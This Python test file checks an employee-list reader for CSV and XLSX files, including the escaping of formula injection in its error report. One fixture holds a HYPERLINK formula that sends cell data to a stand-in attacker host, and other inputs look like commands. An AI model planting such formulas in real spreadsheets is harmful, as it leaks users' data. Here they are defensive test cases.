"""Reading and checking an organisation's employee list: CSV and XLSX as people make them, tolerant
headers, every row-level problem, the problem report, the templates and formula neutralisation.

Files are real: CSV in UTF-8 / UTF-8 with BOM / Windows-1251 with commas or semicolons, XLSX written
by openpyxl and XLSX converted by LibreOffice; the report and templates are read back with openpyxl.
"""

from __future__ import annotations

import csv
import io
from datetime import date, datetime

import pytest
from openpyxl import Workbook, load_workbook

from forms import identifiers as ids
from forms.employees import (
    COLUMNS,
    EmployeeFileError,
    neutralise,
    problems_report_xlsx,
    read_employee_list,
    template_csv,
    template_xlsx,
)
from forms.identifiers import check_enp, check_inn12
from tests.support.employee_files import (
    FIELDS,
    HEADERS,
    SOFFICE_CSV_FILTER,
    csv_bytes,
    employee,
    employees,
    soffice_convert,
    valid_enp,
    xlsx_bytes,
)

TODAY = date(2026, 3, 1)


def read(data: bytes, name: str, **kwargs):
    return read_employee_list(data, name, today=TODAY, **kwargs)


def codes(result) -> list[tuple[int, str, str]]:
    return [(p.row, p.field, p.code) for p in result.problems]


def expected_row(i: int, row: int) -> dict:
    e = employee(i)
    return {"row": row, "last_name": e["last_name"], "first_name": e["first_name"],
            "middle_name": e["middle_name"] or None, "birth_date": e["birth_date"].isoformat(),
            "inn": e["inn"] or None, "position": e["position"], "enp": e["enp"], "email": e["email"]}


# ------------------------------------------------------------------ CSV encodings and delimiters
@pytest.mark.parametrize(("encoding", "bom", "delimiter"), [
    ("utf-8", False, ","),
    ("utf-8", True, ";"),
    ("utf-8", False, ";"),
    ("cp1251", False, ";"),
    ("cp1251", False, ","),
])
def test_csv_in_every_encoding_and_delimiter_is_read_exactly(encoding, bom, delimiter):
    data = csv_bytes(employees(12), encoding=encoding, bom=bom, delimiter=delimiter)
    result = read(data, "Сотрудники.csv")
    assert result.problems == []
    assert result.total_rows == 12
    assert result.columns == HEADERS
    assert result.rows == [expected_row(i, i + 2) for i in range(12)]
    assert result.rows[10]["first_name"] == "Пётр"  # ё survives every encoding


def test_csv_quoted_fields_with_delimiters_quotes_and_line_breaks():
    rows = employees(3)
    rows[0]["position"] = 'Инженер; ведущий "по охране труда"'
    rows[1]["position"] = "Водитель,\nэкспедитор"
    result = read(csv_bytes(rows, delimiter=";"), "list.csv")
    assert result.problems == []
    assert [r["position"] for r in result.rows] == ['Инженер; ведущий "по охране труда"', "Водитель, экспедитор",
                                                    "Инженер"]
    comma = read(csv_bytes(rows, delimiter=","), "list.csv")
    assert [r["position"] for r in comma.rows] == [r["position"] for r in result.rows]


def test_csv_row_numbers_count_records_and_empty_rows_are_skipped():
    text = (";".join(HEADERS) + "\r\n\r\n;;;;;;;\r\n" +
            f"Иванов;Иван;;01.02.1990;;Инженер;{valid_enp(1)};a@example.ru\r\n" +
            "\r\n" + f"Петров;Пётр;;1990-02-02;;Инженер;{valid_enp(2)};b@example.ru\r\n" +
            f"Сидоров;;;02.02.1991;;Инженер;{valid_enp(3)};c@example.ru\r\n")
    result = read(text.encode(), "list.csv")
    assert result.total_rows == 3
    assert [r["row"] for r in result.rows] == [4, 6]
    assert codes(result) == [(7, "first_name", "required")]


def test_header_row_may_follow_empty_lines_in_csv():
    data = b"\r\n;;\r\n" + csv_bytes(employees(2))
    result = read(data, "list.csv")
    assert result.problems == []
    assert [r["row"] for r in result.rows] == [4, 5]


def test_csv_with_excel_sep_line_uses_the_declared_delimiter():
    data = b"sep=,\r\n" + csv_bytes(employees(2), delimiter=",")
    result = read(data, "list.csv")
    assert result.problems == []
    assert [r["row"] for r in result.rows] == [2, 3]  # Excel hides the «sep=» line, so do the row numbers


def test_csv_with_tab_delimiter_is_read():
    result = read(csv_bytes(employees(2), delimiter="\t"), "list.csv")
    assert result.problems == [] and len(result.rows) == 2


# ------------------------------------------------------------------ XLSX made with openpyxl
def test_xlsx_dates_as_real_dates_text_and_serial_numbers():
    rows = employees(6)
    rows[0]["birth_date"] = date(1985, 3, 15)
    rows[1]["birth_date"] = datetime(1985, 3, 16, 0, 0)
    rows[2]["birth_date"] = "17.03.1985"
    rows[3]["birth_date"] = "1.4.1985"
    rows[4]["birth_date"] = "1985-03-19"
    rows[5]["birth_date"] = 31126  # Excel serial number of 20.03.1985
    result = read(xlsx_bytes(rows), "list.xlsx")
    assert result.problems == []
    assert [r["birth_date"] for r in result.rows] == [
        "1985-03-15", "1985-03-16", "1985-03-17", "1985-04-01", "1985-03-19", "1985-03-20"]


def test_xlsx_row_numbers_are_the_sheet_rows_when_the_header_is_lower():
    rows = employees(3)
    rows[2]["email"] = "не почта"
    result = read(xlsx_bytes(rows, start_row=4), "list.xlsx")
    assert [r["row"] for r in result.rows] == [5, 6]
    assert codes(result) == [(7, "email", "format")]


def test_xlsx_numbers_in_text_columns_become_digits():
    rows = employees(2)
    rows[0]["inn"] = int(employee(1)["inn"])  # a 12-digit ИНН typed into a «General» cell
    rows[1]["enp"] = int(rows[1]["enp"])       # an integer cell keeps all 16 digits
    result = read(xlsx_bytes(rows), "list.xlsx")
    assert result.problems == []
    assert result.rows == [expected_row(0, 2) | {"inn": employee(1)["inn"]}, expected_row(1, 3)]


def test_xlsx_enp_stored_as_a_rounded_number_gets_a_hint():
    rows = employees(1)
    rows[0]["enp"] = 5000000000123455.0  # what Excel keeps of a 16-digit number: the last digit is wrong
    result = read(xlsx_bytes(rows), "list.xlsx")
    assert codes(result) == [(2, "enp", "checksum")]
    assert "текстовый формат" in result.problems[0].message


def test_formula_cells_are_read_as_cached_values_never_evaluated():
    """openpyxl writes formulas without cached values: they read as empty, nothing is computed."""
    rows = employees(1)
    rows[0]["birth_date"] = "=DATE(1985,3,15)"
    rows[0]["position"] = '="Инж"&"енер"'
    rows[0]["enp"] = f'="{valid_enp(7)}"'
    data = xlsx_bytes(rows)
    result = read(data, "list.xlsx")
    assert codes(result) == [(2, "birth_date", "required"), (2, "position", "required"), (2, "enp", "required")]
    # LibreOffice recalculates on save and stores the results: those cached values are what we read.
    saved = soffice_convert(data, ".xlsx")
    result = read(saved, "list.xlsx")
    assert result.problems == []
    assert result.rows == [expected_row(0, 2) | {"birth_date": "1985-03-15", "position": "Инженер",
                                                 "enp": valid_enp(7)}]


# ------------------------------------------------------------------ XLSX made by LibreOffice
def test_xlsx_converted_by_libreoffice_from_a_csv_with_real_dates():
    source = csv_bytes(employees(25))
    data = soffice_convert(source, ".csv", infilter=SOFFICE_CSV_FILTER)
    sheet = load_workbook(io.BytesIO(data), read_only=True).worksheets[0]
    assert isinstance(next(sheet.iter_rows(min_row=2, max_row=2, values_only=True))[3], datetime)
    result = read(data, "from-libreoffice.xlsx")
    assert result.problems == []
    assert result.rows == [expected_row(i, i + 2) for i in range(25)]


# ------------------------------------------------------------------ headers
def test_headers_are_matched_tolerantly_in_any_order():
    headers = ["  e-MAIL ", "Полис ОМС", "должность*", "Дата рожд.", "ИМЯ:", "ФАМИЛИЯ", "Отчество (при наличии)"]
    fields = ["email", "enp", "position", "birth_date", "first_name", "last_name", "middle_name"]
    result = read(csv_bytes(employees(3), headers=headers, fields=fields), "list.csv")
    assert result.problems == []
    assert result.columns == [" ".join(h.split()) for h in headers]
    assert result.rows == [expected_row(i, i + 2) | {"inn": None} for i in range(3)]


@pytest.mark.parametrize(("field", "header"), [
    ("birth_date", "Д.р."), ("birth_date", "дата  рождения (ДД.ММ.ГГГГ)"), ("birth_date", "Дата рождения сотрудника"),
    ("enp", "ЕНП"), ("enp", "Номер полиса"), ("enp", "Номер полиса ОМС (ЕНП)"), ("enp", "номер полиса омс"),
    ("email", "Email"), ("email", "Электронная почта"), ("email", "Эл. почта"), ("email", "эл.почта"),
    ("middle_name", "Отчество"), ("middle_name", "ОТЧЁСТВО"), ("inn", "ИНН"), ("inn", "инн *"),
    ("position", "Должность"), ("last_name", "Фамилия"), ("first_name", "Имя"),
])
def test_header_synonyms(field, header):
    headers = [header if f == field else COLUMNS[f] for f in FIELDS]
    result = read(csv_bytes(employees(1), headers=headers), "list.csv")
    assert result.problems == []
    assert result.rows[0][field] == expected_row(0, 2)[field]


@pytest.mark.parametrize("numbering", ["№ п/п", "№", "N п/п"])
def test_numbering_column_is_ignored_and_pre_numbered_empty_rows_are_skipped(numbering):
    rows = [{**e, "n": str(i + 1)} for i, e in enumerate(employees(3))] + [{"n": "4"}, {"n": "5"}]
    result = read(csv_bytes(rows, headers=[numbering, *HEADERS], fields=["n", *FIELDS]), "list.csv")
    assert result.problems == []
    assert result.total_rows == 3
    assert result.rows == [expected_row(i, i + 2) for i in range(3)]


def test_unknown_unlabelled_and_repeated_columns_are_problems_on_the_header_row():
    headers = [*HEADERS, "Табельный номер", "", "E-mail"]
    fields = [*FIELDS, "position", "position", "email"]
    result = read(csv_bytes(employees(2), headers=headers, fields=fields), "list.csv")
    assert codes(result) == [(1, "Табельный номер", "unknown_column"), (1, "E-mail", "duplicate_column"),
                             (1, "Столбец J", "unknown_column")]
    messages = [p.message for p in result.problems]
    assert "Неизвестный столбец «Табельный номер»" in messages[0]
    assert "В столбце J есть данные, но нет заголовка" in messages[2]
    assert len(result.rows) == 2  # the rows themselves are fine, but the list cannot go on


def test_missing_required_columns_refuse_the_file_naming_them():
    headers = ["Фамилия", "Имя", "Должность", "ЕНП"]
    with pytest.raises(EmployeeFileError) as caught:
        read(csv_bytes(employees(2), headers=headers, fields=["last_name", "first_name", "position", "enp"]),
             "list.csv")
    error = caught.value
    assert (error.code, error.status) == ("missing_columns", 422)
    assert error.details == ("birth_date", "email")
    assert error.message.startswith("В файле нет обязательных столбцов: «Дата рождения», «E-mail»")


def test_a_single_fio_column_is_explained():
    headers = ["ФИО", "Дата рождения", "Должность", "ЕНП", "E-mail"]
    with pytest.raises(EmployeeFileError) as caught:
        read(csv_bytes(employees(1), headers=headers, fields=["last_name", "birth_date", "position", "enp", "email"]),
             "list.csv")
    assert caught.value.code == "missing_columns"
    assert "ФИО укажите в трёх столбцах" in caught.value.message


# ------------------------------------------------------------------ row checks
def _bad_rows() -> list[dict]:
    rows = employees(20)
    changes = [
        {"last_name": ""},                                   # 2  required
        {"first_name": "Ivan"},                              # 3  format (Latin letters)
        {"birth_date": "31.02.1990"},                        # 4  bad_date: no such day
        {"birth_date": "1990/01/01"},                        # 5  bad_date: wrong shape
        {"birth_date": "02.03.2026"},                        # 6  future_date (TODAY is 01.03.2026)
        {"birth_date": "31.12.1899"},                        # 7  too_early
        {"enp": valid_enp(100)[:-1] + str((int(valid_enp(100)[-1]) + 1) % 10)},  # 8 checksum
        {"enp": "12345"},                                    # 9  format
        {"inn": "500100732258"},                             # 10 checksum
        {"inn": "7707083893"},                               # 11 format (an organisation's ИНН)
        {"email": "ivanov@"},                                # 12 format
        {"position": "Я" * 201},                             # 13 too_long
        {"enp": valid_enp(0)},                               # 14 duplicate of row 2's ЕНП
        {"last_name": "ПЕТРОВ", "first_name": "Петр", "middle_name": rows[11]["middle_name"],
         "birth_date": rows[11]["birth_date"]},              # 15 same person as row 13 (ё/е, case)
        {"middle_name": "-"},                                # 16 «-» means no patronymic: fine
        {"position": "", "email": ""},                       # 17 two problems in one row
        {"birth_date": ""},                                  # 18 required
        {"enp": ""},                                         # 19 required
        {"middle_name": "Иванович2"},                        # 20 format
    ]
    rows[11]["last_name"], rows[11]["first_name"] = "Петров", "Пётр"
    for row, change in zip(rows, changes, strict=False):
        row.update(change)
    return rows


EXPECTED_CODES = [
    (2, "last_name", "required"),
    (3, "first_name", "format"),
    (4, "birth_date", "bad_date"),
    (5, "birth_date", "bad_date"),
    (6, "birth_date", "future_date"),
    (7, "birth_date", "too_early"),
    (8, "enp", "checksum"),
    (9, "enp", "format"),
    (10, "inn", "checksum"),
    (11, "inn", "format"),
    (12, "email", "format"),
    (13, "position", "too_long"),
    (14, "enp", "duplicate"),
    (15, "", "duplicate"),
    (17, "position", "required"),
    (17, "email", "required"),
    (18, "birth_date", "required"),
    (19, "enp", "required"),
    (20, "middle_name", "format"),
]


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_every_row_problem_is_reported_with_row_field_and_code(kind):
    rows = _bad_rows()
    data = csv_bytes(rows) if kind == "csv" else xlsx_bytes(rows)
    result = read(data, f"list.{kind}")
    assert codes(result) == EXPECTED_CODES
    assert result.total_rows == 20
    assert [r["row"] for r in result.rows] == [16, 21]
    assert result.rows[0]["middle_name"] is None


def test_row_problem_messages_are_specific_russian_text():
    result = read(csv_bytes(_bad_rows()), "list.csv")
    message = {(p.row, p.field): p.message for p in result.problems}
    assert message[(2, "last_name")] == "Не заполнено: «Фамилия»"
    assert "русские буквы" in message[(3, "first_name")]
    assert message[(4, "birth_date")] == "Такой даты нет в календаре: «31.02.1990»"
    assert message[(5, "birth_date")] == "Неверная дата «1990/01/01»: укажите дату в формате ДД.ММ.ГГГГ"
    assert message[(6, "birth_date")] == "Дата рождения 02.03.2026 ещё не наступила"
    assert message[(7, "birth_date")] == "Дата рождения 31.12.1899 раньше 01.01.1900"
    assert message[(8, "enp")] == ids.ENP_TYPO
    assert message[(9, "enp")] == "Номер полиса ОМС должен содержать 16 цифр"
    assert message[(10, "inn")] == ids.INN_TYPO
    assert message[(11, "inn")] == "ИНН физического лица должен содержать 12 цифр"
    assert message[(12, "email")].startswith("«ivanov@»: введите адрес электронной почты")
    assert message[(14, "enp")] == "Этот номер полиса уже указан в строке 2"
    assert message[(15, "")] == "Сотрудник с такими же ФИО и датой рождения уже указан в строке 13"


def test_accepted_values_are_normalised():
    rows = employees(1)
    enp, inn = valid_enp(0), employee(1)["inn"]
    rows[0].update({"last_name": "  Салтыков-Щедрин ", "first_name": "Михаил", "email": " m@example.ru ",
                    "enp": " ".join(enp[i:i + 4] for i in range(0, 16, 4)), "inn": f"{inn[:4]}-{inn[4:]}",
                    "position": " Главный \u00a0 бухгалтер "})
    result = read(csv_bytes(rows), "list.csv")
    assert result.problems == []
    assert result.rows == [expected_row(0, 2) | {
        "last_name": "Салтыков-Щедрин", "first_name": "Михаил", "inn": inn, "email": "m@example.ru",
        "position": "Главный бухгалтер"}]


def test_progress_is_reported_every_500_rows_and_at_the_end():
    calls: list[tuple[int, int]] = []
    read(csv_bytes(employees(1234)), "list.csv", progress=lambda done, total: calls.append((done, total)))
    assert calls == [(500, 1234), (1000, 1234), (1234, 1234)]


def test_full_list_of_10000_rows_is_accepted_from_csv_and_xlsx():
    rows = employees(10_000)
    for data, name in ((csv_bytes(rows), "list.csv"), (xlsx_bytes(rows, write_only=True), "list.xlsx")):
        result = read(data, name)
        assert result.problems == []
        assert len(result.rows) == 10_000
        assert result.rows[-1] == expected_row(9_999, 10_001)


# ------------------------------------------------------------------ templates
def test_xlsx_template_has_the_headers_an_example_and_reads_back_clean():
    data = template_xlsx()
    workbook = load_workbook(io.BytesIO(data))
    sheet = workbook.worksheets[0]
    assert [c.value for c in sheet[1]] == list(COLUMNS.values())
    example = {f: c for f, c in zip(COLUMNS, sheet[2], strict=True)}
    assert check_enp(example["enp"].value) is None and example["enp"].data_type == "s"
    assert example["enp"].number_format == "@"
    # the whole ЕНП and ИНН columns are text, so numbers typed later keep all their digits
    assert [sheet.column_dimensions[c].number_format for c in "DEG"] == ["DD.MM.YYYY", "@", "@"]
    assert check_inn12(example["inn"].value) is None
    assert isinstance(example["birth_date"].value, datetime)
    assert workbook.sheetnames == ["Сотрудники", "Как заполнить"]
    result = read(data, "Шаблон.xlsx")
    assert result.problems == [] and len(result.rows) == 1


def test_csv_template_is_utf8_with_bom_and_semicolons_and_reads_back_clean():
    data = template_csv()
    assert data.startswith(b"\xef\xbb\xbf")
    lines = list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))
    assert lines[0] == list(COLUMNS.values())
    assert len(lines) == 2 and len(lines[1]) == len(COLUMNS)
    result = read(data, "Шаблон.csv")
    assert result.problems == [] and result.rows[0]["birth_date"] == "1985-03-15"


def test_csv_template_opened_by_libreoffice_reads_back_clean():
    data = soffice_convert(template_csv(), ".csv", infilter=SOFFICE_CSV_FILTER)
    result = read(data, "Шаблон.xlsx")
    assert result.problems == [] and len(result.rows) == 1


# ------------------------------------------------------------------ the problem report
def _report_case() -> bytes:
    """A CSV (where formula injection usually comes from) with problems and hostile text."""
    rows = employees(5)
    rows[1]["birth_date"] = "31.02.1990"
    rows[1]["email"] = "нет"
    rows[2]["position"] = '=HYPERLINK("http://evil.example/?"&A1,"Открыть")'
    rows[3]["enp"] = rows[0]["enp"]
    rows[4]["last_name"] = "+Смирнов"
    return csv_bytes(rows, headers=[*HEADERS, "@Примечание"], fields=[*FIELDS, "position"])


def test_report_marks_problem_cells_with_fill_and_comment_and_lists_remarks():
    data = _report_case()
    result = read(data, "list.csv")
    assert codes(result) == [(1, "@Примечание", "unknown_column"), (3, "birth_date", "bad_date"),
                             (3, "email", "format"), (5, "enp", "duplicate"), (6, "last_name", "format")]
    report = load_workbook(io.BytesIO(problems_report_xlsx(data, "list.csv", result)))
    assert report.sheetnames == ["Проверка списка", "Замечания"]
    sheet = report["Проверка списка"]
    header = [c.value for c in sheet[1]]
    assert header == ["Строка", *HEADERS, "'@Примечание", "Замечания"]
    assert [sheet.cell(row=r, column=1).value for r in range(2, 7)] == [2, 3, 4, 5, 6]

    def marked(cell) -> bool:
        return cell.fill.fgColor.rgb.endswith("FFC7CE")

    bad_date, bad_email = sheet.cell(row=3, column=5), sheet.cell(row=3, column=9)
    assert marked(bad_date) and marked(bad_email) and marked(sheet.cell(row=1, column=10))
    assert bad_date.value == "31.02.1990"
    assert bad_date.comment.text == "Такой даты нет в календаре: «31.02.1990»"
    assert "Неизвестный столбец «@Примечание»" in sheet.cell(row=1, column=10).comment.text
    assert marked(sheet.cell(row=5, column=8)) and "строке 2" in sheet.cell(row=5, column=8).comment.text
    assert not marked(sheet.cell(row=2, column=2)) and sheet.cell(row=2, column=2).comment is None
    remarks = sheet.cell(row=3, column=11).value
    assert remarks.splitlines() == ["Дата рождения: Такой даты нет в календаре: «31.02.1990»",
                                    f"E-mail: {result.problems[2].message}"]
    assert sheet.cell(row=2, column=11).value is None
    listing = [[c.value for c in row] for row in report["Замечания"].iter_rows()]
    assert listing[0] == ["Строка", "Столбец", "Замечание"]
    assert [row[:2] for row in listing[1:]] == [[1, "'@Примечание"], [3, "Дата рождения"], [3, "E-mail"],
                                                [5, "Номер полиса ОМС (ЕНП)"], [6, "Фамилия"]]


def test_report_neutralises_formulas_and_formula_like_text():
    data = _report_case()
    result = read(data, "list.csv")
    report = problems_report_xlsx(data, "list.csv", result)
    sheet = load_workbook(io.BytesIO(report))["Проверка списка"]
    injected = sheet.cell(row=4, column=7)
    assert injected.data_type == "s"
    assert injected.value == """'=HYPERLINK("http://evil.example/?"&A1,"Открыть")"""
    assert sheet.cell(row=6, column=2).value == "'+Смирнов"
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f"


def test_report_marks_a_repeated_column_not_its_first_namesake():
    data = csv_bytes(employees(2), headers=[*HEADERS, "E-mail"], fields=[*FIELDS, "email"])
    result = read(data, "list.csv")
    assert codes(result) == [(1, "E-mail", "duplicate_column")]
    sheet = load_workbook(io.BytesIO(problems_report_xlsx(data, "list.csv", result)))["Проверка списка"]
    assert sheet.cell(row=1, column=9).comment is None
    assert "повторяет столбец" in sheet.cell(row=1, column=10).comment.text


def test_report_of_thousands_of_problems_comments_the_first_2000_and_fills_all():
    rows = employees(1_100)
    for row in rows:
        row["birth_date"], row["email"] = "31.02.1990", "нет"
    data = csv_bytes(rows)
    result = read(data, "list.csv")
    assert len(result.problems) == 2_200
    sheet = load_workbook(io.BytesIO(problems_report_xlsx(data, "list.csv", result)))["Проверка списка"]
    cells = [sheet.cell(row=r, column=c) for r in range(2, 1_102) for c in (5, 9)]
    assert all(cell.fill.fgColor.rgb.endswith("FFC7CE") for cell in cells)
    assert sum(cell.comment is not None for cell in cells) == 2_000
    assert sheet.cell(row=1_101, column=10).value.count("\n") == 1  # «Замечания»: both problems


def test_report_keeps_real_dates_as_dates():
    data = xlsx_bytes(employees(2))
    result = read(data, "list.xlsx")
    sheet = load_workbook(io.BytesIO(problems_report_xlsx(data, "list.xlsx", result)))["Проверка списка"]
    cell = sheet.cell(row=3, column=5)
    assert cell.value == datetime(1960, 1, 2) and cell.number_format == "DD.MM.YYYY"


def test_report_of_a_csv_list_without_problems():
    data = csv_bytes(employees(3), encoding="cp1251")
    result = read(data, "list.csv")
    report = load_workbook(io.BytesIO(problems_report_xlsx(data, "list.csv", result)))
    sheet = report["Проверка списка"]
    assert [c.value for c in sheet[2]][:3] == [2, "Иванов", "Иван"]
    assert [[c.value for c in r] for r in report["Замечания"].iter_rows(min_row=2)] == [[None, None, "Замечаний нет"]]


# ------------------------------------------------------------------ neutralisation
@pytest.mark.parametrize(("value", "expected"), [
    ("=1+1", "'=1+1"), ("+79991234567", "'+79991234567"), ("-5", "'-5"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=cmd", "'\t=cmd"), ("\r=cmd", "'\r=cmd"), ("Иванов", "Иванов"), ("", ""), ("a=b", "a=b"),
    (5, 5), (None, None), (date(2020, 1, 1), date(2020, 1, 1)),
])
def test_neutralise(value, expected):
    assert neutralise(value) == expected


def test_templates_contain_no_formula_like_text():
    for sheet in load_workbook(io.BytesIO(template_xlsx())).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f"
                assert not (isinstance(cell.value, str) and cell.value[:1] in "=+-@")
    for line in csv.reader(io.StringIO(template_csv().decode("utf-8-sig")), delimiter=";"):
        assert all(value[:1] not in "=+-@" for value in line)


def test_workbook_written_by_hand_with_formula_text_in_headers_is_neutralised_in_report():
    workbook = Workbook()
    sheet = workbook.active
    sheet.append([*HEADERS])
    sheet.append([employee(0)[f] for f in FIELDS])
    sheet["F2"].value = "-Инженер"  # text that starts with a minus: valid position, neutralised on export
    sheet["F2"].data_type = "s"
    out = io.BytesIO()
    workbook.save(out)
    data = out.getvalue()
    result = read(data, "list.xlsx")
    assert result.problems == [] and result.rows[0]["position"] == "-Инженер"
    report = load_workbook(io.BytesIO(problems_report_xlsx(data, "list.xlsx", result)))
    assert report["Проверка списка"].cell(row=2, column=7).value == "'-Инженер"
